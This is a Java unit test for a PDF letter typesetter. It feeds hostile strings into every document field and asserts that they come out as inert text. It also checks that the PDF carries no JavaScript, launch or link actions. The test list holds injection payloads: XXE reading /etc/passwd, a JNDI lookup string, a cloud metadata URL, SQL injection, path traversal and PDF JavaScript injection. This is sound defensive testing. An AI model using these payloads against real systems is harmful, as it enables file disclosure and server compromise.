package org.huiying.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

import java.io.IOException;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSDictionary;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HostileTextTest {

    /** Whatever makes a reader of PDF open, run, fetch or fill in something. */
    private static final Set<String> ACTIVE = Set.of(
            "URI",
            "JS",
            "JavaScript",
            "Launch",
            "AA",
            "OpenAction",
            "EmbeddedFiles",
            "EF",
            "Annots",
            "AcroForm",
            "XFA",
            "A1",
            "GoToR",
            "SubmitForm",
            "RichMedia",
            "Names",
            "XObject",
            "F");

    private final Typesetter typesetter = new Typesetter();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src=file:///etc/passwd>",
                "<script>alert(1)</script>",
                "http://169.254.169.254/latest/meta-data/",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
                "${jndi:ldap://example.org/a} {{7*7}} #{7*7} %{7*7}",
                ") Tj ET Q /URI (http://example.org) endstream endobj",
                "BT /F1 12 Tf (a) Tj ET << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
                "../../../../etc/passwd\\..\\..\\windows",
                "]]></rdf:li></rdf:Alt></dc:title> {creator} {date} {language}",
                "'; drop table letter; -- \" or 1=1"
            })
    void hostileTextInEveryFieldIsJustText(String text) throws IOException {
        var head = Letterhead.issued(text, text, SampleDocuments.DAY)
                .superseding(text)
                .provenBy(new Proof(text, text));
        var foot = new ReplyLetter.Foot(text, List.of(text), text);
        var annex = new Annex(text, text, new Table(List.of(Table.Column.text(text, 1)), List.of(List.of(text))));
        var letter = typesetter.letter(
                new ReplyLetter(head, text, text, text, text, List.of(text), List.of(text), foot).with(List.of(annex)));

        assertThat(Spoken.texts(letter, "H1")).containsExactly(text);
        assertThat(Spoken.texts(letter, "TD")).containsExactly(text);
        assertThat(Spoken.texts(letter, "P")).contains(text, text + "：");
        assertThat(keys(letter)).doesNotContainAnyElementsOf(ACTIVE);
        assertThat(ArchiveJudge.objections(letter.bytes())).isEmpty();
        try (var pdf = Loader.loadPDF(letter.bytes())) {
            assertThat(pdf.getDocumentInformation().getTitle()).isEqualTo(text);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\u202E",
                "\u0000",
                "\u001B[31m",
                "\uFEFF",
                "\u2066a\u2069",
                "\u200D",
                "\uDB40\uDC41",
                "\u0300\u0301"
            })
    void invisibleMarksNeitherStopNorTurnTheText(String mark) throws IOException {
        var letter = SampleDocuments.letter("甲" + mark + "乙" + mark, Letterhead.draft("北庭海关", SampleDocuments.DAY));

        assertThatCode(() -> typesetter.missing(letter.text())).doesNotThrowAnyException();
        if (typesetter.missing(letter.text()).isEmpty()) {
            assertThat(Spoken.texts(typesetter.letter(letter), "P")).contains(CleanText.of(letter.text()));
        }
    }

    private static Set<String> keys(RenderedDocument document) throws IOException {
        var keys = new TreeSet<String>();
        try (var pdf = Loader.loadPDF(document.bytes())) {
            var file = pdf.getDocument();
            for (var key : file.getXrefTable().keySet()) {
                if (file.getObjectFromPool(key).getObject() instanceof COSDictionary dictionary) {
                    collect(dictionary, keys);
                }
            }
        }
        return keys;
    }

    private static void collect(COSDictionary dictionary, Set<String> keys) {
        for (var entry : dictionary.entrySet()) {
            keys.add(entry.getKey().getName());
            if (entry.getValue() instanceof COSDictionary inner) {
                collect(inner, keys);
            }
        }
    }
}
